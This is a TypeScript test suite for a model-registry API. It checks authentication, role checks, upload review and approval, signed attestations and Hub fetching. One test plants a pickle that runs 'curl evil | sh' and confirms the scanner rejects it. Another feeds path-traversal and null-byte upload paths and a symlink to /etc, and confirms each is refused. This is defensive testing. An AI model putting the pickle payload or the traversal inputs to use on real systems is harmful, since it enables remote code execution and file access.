import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createToken } from '../../src/app/registry/index.js';
import { verifyModelSignature, verifyVsa } from '../../src/app/signing/index.js';
import { API_ROUTES, createApp } from '../../src/server/index.js';
import { FixtureHub, sha256 } from '../helpers/fixture-hub.js';
import { osSystemPickle } from '../helpers/pickles.js';
import { DATABASES, PEOPLE, testRegistry, until, type TestRegistry } from '../helpers/registry.js';

const CONFIG = '{"model_type": "bert", "architectures": ["BertModel"]}';

describe.each(DATABASES)('registry API on %s', (kind) => {
  let t: TestRegistry;
  let app: ReturnType<typeof createApp>;
  let hub: FixtureHub;
  let local: string;
  const tokens: Record<string, string> = {};

  beforeAll(async () => {
    hub = await new FixtureHub().start();
    local = mkdtempSync(join(tmpdir(), 'mg-local-'));
    mkdirSync(join(local, 'allowed', 'model'), { recursive: true });
    writeFileSync(join(local, 'allowed', 'model', 'config.json'), CONFIG);
    t = await testRegistry(kind, { hubEndpoint: hub.url, allowedPaths: [join(local, 'allowed')], maxFileBytes: 1024 * 1024 });
    app = createApp(t.registry);
    for (const [name, who] of Object.entries(PEOPLE))
      tokens[name] = await createToken(t.registry.ctx, { name: 'setup', roles: ['admin'] }, who.name, who.roles);
  });
  afterAll(async () => {
    await t?.close();
    await hub?.close();
    rmSync(local, { recursive: true, force: true });
  });

  const call = async (method: string, path: string, who?: string, body?: unknown, raw?: Buffer | string) => {
    const headers: Record<string, string> = {};
    if (who) headers.authorization = `Bearer ${tokens[who]}`;
    const init: RequestInit = { method, headers };
    if (raw !== undefined) init.body = typeof raw === 'string' ? raw : new Uint8Array(raw);
    else if (body !== undefined && method !== 'GET' && method !== 'DELETE') init.body = JSON.stringify(body);
    const res = await app.request(path, init);
    const text = await res.text();
    let json: ReturnType<typeof JSON.parse>;
    try {
      json = JSON.parse(text);
    } catch {
      json = undefined;
    }
    return { status: res.status, json, text, headers: res.headers };
  };

  async function uploaded(model: string, files: Record<string, Buffer | string>, who = 'alice'): Promise<string> {
    const v = await call('POST', '/api/submissions', who, { model, source: { kind: 'upload' } });
    expect(v.status).toBe(201);
    for (const [path, bytes] of Object.entries(files))
      expect((await call('PUT', `/api/versions/${v.json.id}/files/${path}`, who, undefined, bytes)).status).toBe(201);
    expect((await call('POST', `/api/versions/${v.json.id}/finish`, who)).status).toBe(200);
    return v.json.id as string;
  }

  it('checks the token and the roles on every route, and documents every route in /openapi.json', async () => {
    const doc = (await call('GET', '/openapi.json')).json;
    for (const route of API_ROUTES) {
      expect(doc.paths[route.path]?.[route.method], `${route.method} ${route.path} in the OpenAPI document`).toBeDefined();
      const path = route.path.replace('{path}', 'a/b.bin').replace(/\{(\w+)\}/g, 'x');
      const anonymous = await call(route.method.toUpperCase(), path, undefined, {});
      if (route.roles === 'public') {
        expect(anonymous.status, `${route.method} ${route.path} is public`).toBe(200);
        continue;
      }
      expect(anonymous.status, `${route.method} ${route.path} without a token`).toBe(401);
      expect(anonymous.json.error.code).toBe('UNAUTHENTICATED');
      const bad = await app.request(path, { method: route.method.toUpperCase(), headers: { authorization: 'Bearer mg_not-a-token' } });
      expect(bad.status).toBe(401);
      if (route.roles === 'any') continue;
      // Someone holding none of the route's roles (an auditor holds no write role).
      const outsider = Object.keys(PEOPLE).find(
        (p) => p !== 'root' && !PEOPLE[p as keyof typeof PEOPLE].roles.some((r) => (route.roles as readonly string[]).includes(r)),
      )!;
      const refused = await call(route.method.toUpperCase(), path, outsider, {});
      expect(refused.status, `${route.method} ${route.path} as ${outsider}`).toBe(403);
      expect(refused.json.error.code).toBe('FORBIDDEN');
    }
  });

  it('walks an upload through review and approval over HTTP, with signed evidence that verifies offline', async () => {
    const id = await uploaded('acme/encoder', { 'config.json': CONFIG, 'nested/README.md': '# encoder\n' });
    await until(t.registry, id, ['review']);
    expect((await call('POST', `/api/versions/${id}/review`, 'alice', { decision: 'accept' })).json.error.code).toBe('FORBIDDEN');
    expect((await call('POST', `/api/versions/${id}/review`, 'bob', { decision: 'accept', reason: 'card and config read' })).json.state).toBe('approval');
    const refused = await call('POST', `/api/versions/${id}/approve`, 'erin', {});
    expect(refused.status).toBe(403);
    const approved = await call('POST', `/api/versions/${id}/approve`, 'carol', { reason: 'ok' });
    expect(approved.json.state).toBe('approved');
    const view = (await call('GET', `/api/versions/${id}`, 'erin')).json;
    expect(view.transitions.map((x: { to_state: string }) => x.to_state)).toEqual(['receiving', 'submitted', 'scanning', 'review', 'approval', 'approved']);
    expect(view.attestations.map((a: { kind: string }) => a.kind).sort()).toEqual(['bom', 'model-signature', 'report', 'vsa']);
    const pub = (await call('GET', '/api/keys/registry.pub')).text;
    const vsa = (await call('GET', `/api/versions/${id}/attestations/vsa`, 'erin')).text;
    const files = view.files.map((f: { path: string; sha256: string }) => ({ path: f.path, sha256: f.sha256 }));
    const checked = verifyVsa(vsa, pub, { files });
    expect(checked.problems).toEqual([]);
    expect(checked.ok).toBe(true);
    expect(checked.statement?.predicate.inputAttestations?.map((a) => a.uri)).toEqual([
      expect.stringMatching(/attestations\/report$/),
      expect.stringMatching(/attestations\/bom$/),
    ]);
    expect(verifyVsa(vsa, pub, { files: [{ path: 'config.json', sha256: sha256(Buffer.from('other')) }] }).ok).toBe(false);
    // The model signature verifies against the files themselves, with the registry's public key.
    const dir = mkdtempSync(join(tmpdir(), 'mg-approved-'));
    writeFileSync(join(dir, 'config.json'), CONFIG);
    mkdirSync(join(dir, 'nested'));
    writeFileSync(join(dir, 'nested', 'README.md'), '# encoder\n');
    writeFileSync(join(dir, 'model.sig'), (await call('GET', `/api/versions/${id}/attestations/model-signature`, 'erin')).text);
    const sig = await verifyModelSignature({ modelPath: dir, signaturePath: join(dir, 'model.sig'), trust: { kind: 'key', publicKey: Buffer.from(pub) } });
    expect(sig.problems).toEqual([]);
    expect(sig.verified).toBe(true);
    writeFileSync(join(dir, 'config.json'), CONFIG.replace('bert', 'gpt2'));
    expect(
      (await verifyModelSignature({ modelPath: dir, signaturePath: join(dir, 'model.sig'), trust: { kind: 'key', publicKey: Buffer.from(pub) } })).verified,
    ).toBe(false);
    rmSync(dir, { recursive: true, force: true });
    const deployed = await call('POST', `/api/versions/${id}/deployments`, 'alice', { environment: 'prod', owner: 'search-team' });
    expect(deployed.status).toBe(201);
    const holding = await call('GET', `/api/deployments?sha256=${view.files[0].sha256}`, 'erin');
    expect(holding.json.map((d: { id: string }) => d.id)).toEqual([deployed.json.id]);
    const at = await call('GET', `/api/deployments?at=${encodeURIComponent(new Date().toISOString())}`, 'erin');
    expect(at.json.map((d: { id: string }) => d.id)).toContain(deployed.json.id);
    expect((await call('GET', `/api/deployments?at=2000-01-01`, 'erin')).json).toEqual([]);
    const audit = await call('GET', '/api/audit/verify', 'erin');
    expect(audit.json.ok).toBe(true);
    expect((await call('GET', '/api/audit/verify', 'alice')).status).toBe(403);
  });

  it('shows reviewers the decompiled pickle calls and the diff from the last approved version', async () => {
    const id = await uploaded('acme/encoder', { 'config.json': CONFIG, 'nested/README.md': '# encoder v2\n', 'extra.bin': osSystemPickle('curl evil | sh') });
    expect(await until(t.registry, id, ['review', 'rejected'])).toBe('rejected');
    const evidence = (await call('GET', `/api/versions/${id}/evidence`, 'bob')).json;
    expect(evidence.pickleCalls).toEqual([{ path: 'extra.bin', calls: expect.arrayContaining([expect.stringContaining("os.system('curl evil | sh')")]) }]);
    expect(evidence.diff).toMatchObject({ added: ['extra.bin'], removed: [], changed: ['nested/README.md'] });
    expect(evidence.diff.newFindings.length).toBeGreaterThan(0);
  });

  it('shows the custom code an auto_map selects', async () => {
    const id = await uploaded('acme/custom', {
      // Past 64 KiB and with a NaN, as Python's json reads it: the auto_map is still found.
      'config.json': `{"model_type": "x", "padding": "${'p'.repeat(70_000)}", "initializer_range": NaN, "auto_map": {"AutoModel": "modeling_x.XModel"}}`,
      'modeling_x.py': 'import torch\nclass XModel(torch.nn.Module):\n    pass\n',
    });
    await until(t.registry, id, ['review', 'rejected']);
    const evidence = (await call('GET', `/api/versions/${id}/evidence`, 'bob')).json;
    expect(evidence.customCode).toEqual([
      expect.objectContaining({ path: 'modeling_x.py', why: expect.stringContaining('auto_map'), text: expect.stringContaining('class XModel') }),
    ]);
    expect((await call('GET', `/api/versions/${id}`, 'bob')).json.risk).toBe('high');
  });

  it('refuses unsafe upload paths, files over the limit, and uploads by anyone but the submitter', async () => {
    const v = (await call('POST', '/api/submissions', 'alice', { model: 'acme/limits', source: { kind: 'upload' } })).json;
    // `%2e%2e` is `..` to the URL parser: such a request never reaches the upload route (404).
    for (const path of ['%2e%2e/x']) expect([400, 404]).toContain((await call('PUT', `/api/versions/${v.id}/files/${path}`, 'alice', undefined, 'x')).status);
    for (const path of ['a//b', '%00x', 'a%5cb', '%E2%80%AEexe.txt', 'a/%2E%2E%2Fb'])
      expect((await call('PUT', `/api/versions/${v.id}/files/${path}`, 'alice', undefined, 'x')).status, path).toBe(400);
    expect((await call('PUT', `/api/versions/${v.id}/files/big.bin`, 'alice', undefined, Buffer.alloc(1024 * 1024 + 1))).status).toBe(413);
    const other = await createToken(t.registry.ctx, PEOPLE.root, 'mallory', ['submitter']);
    const res = await app.request(`/api/versions/${v.id}/files/x.bin`, { method: 'PUT', headers: { authorization: `Bearer ${other}` }, body: 'x' });
    expect(res.status).toBe(403);
    expect((await call('POST', `/api/versions/${v.id}/finish`, 'alice')).json.error.code).toBe('CONFLICT');
    // An upload given up is rejected, by its submitter only, and takes no more files.
    expect((await app.request(`/api/versions/${v.id}/abandon`, { method: 'POST', headers: { authorization: `Bearer ${other}` }, body: '{}' })).status).toBe(
      403,
    );
    const abandoned = await call('POST', `/api/versions/${v.id}/abandon`, 'alice', { reason: 'network gave up' });
    expect(abandoned.json).toMatchObject({ state: 'rejected', state_reason: 'upload abandoned: network gave up' });
    expect((await call('PUT', `/api/versions/${v.id}/files/late.bin`, 'alice', undefined, 'x')).status).toBe(409);
    expect((await call('POST', '/api/submissions', 'alice', { model: '../etc', source: { kind: 'upload' } })).status).toBe(400);
    expect((await call('POST', '/api/submissions', 'alice', { model: 'a/b', source: { kind: 'path', path: '/etc' } })).status).toBe(403);
    // Inside the allowed folder only once `..` and links are resolved.
    expect((await call('POST', '/api/submissions', 'alice', { model: 'a/b', source: { kind: 'path', path: join(local, 'allowed', '..', '..') } })).status).toBe(
      403,
    );
    symlinkSync('/etc', join(local, 'allowed', 'escape'));
    expect((await call('POST', '/api/submissions', 'alice', { model: 'a/b', source: { kind: 'path', path: join(local, 'allowed', 'escape') } })).status).toBe(
      403,
    );
  });

  it('fetches a Hub reference pinned to its commit, a gated one with the submitter’s token (recorded as who accepted the licence), and an allowed local path', async () => {
    const files = [
      { path: 'config.json', content: Buffer.from(CONFIG) },
      { path: 'model.safetensors', content: Buffer.concat([Buffer.from([2, 0, 0, 0, 0, 0, 0, 0]), Buffer.from('{}')]), lfs: true },
    ];
    const commit = hub.addSimpleRepo('gated-org/gated-model', files, { gated: true });
    hub.tokens.add('hf_good');
    const refused = (
      await call('POST', '/api/submissions', 'alice', { model: 'gated-org/gated-model', source: { kind: 'hub', repo: 'gated-org/gated-model' } })
    ).json;
    expect(await until(t.registry, refused.id, ['rejected', 'review'])).toBe('rejected');
    expect((await call('GET', `/api/versions/${refused.id}`, 'bob')).json.state_reason).toMatch(/HUB_ACCESS|gated|401|403/i);
    const v = (
      await call('POST', '/api/submissions', 'alice', {
        model: 'gated-org/gated-model',
        source: { kind: 'hub', repo: 'gated-org/gated-model', revision: 'main' },
        hubToken: 'hf_good',
      })
    ).json;
    await until(t.registry, v.id, ['rejected', 'review']);
    expect((await call('GET', `/api/versions/${v.id}`, 'bob')).json).toMatchObject({ state: 'review', state_reason: expect.any(String) });
    const view = (await call('GET', `/api/versions/${v.id}`, 'bob')).json;
    expect(view.source_commit).toBe(commit);
    expect(view.licence_accepted_by).toBe('alice');
    expect(view.files.map((f: { path: string; sha256: string }) => [f.path, f.sha256])).toEqual(files.map((f) => [f.path, sha256(f.content)]));
    const p = (await call('POST', '/api/submissions', 'alice', { model: 'acme/local', source: { kind: 'path', path: join(local, 'allowed', 'model') } })).json;
    expect(await until(t.registry, p.id, ['rejected', 'review'])).toBe('review');
    expect((await call('GET', `/api/versions/${p.id}`, 'bob')).json.files.map((f: { path: string }) => f.path)).toEqual(['config.json']);
  });
});
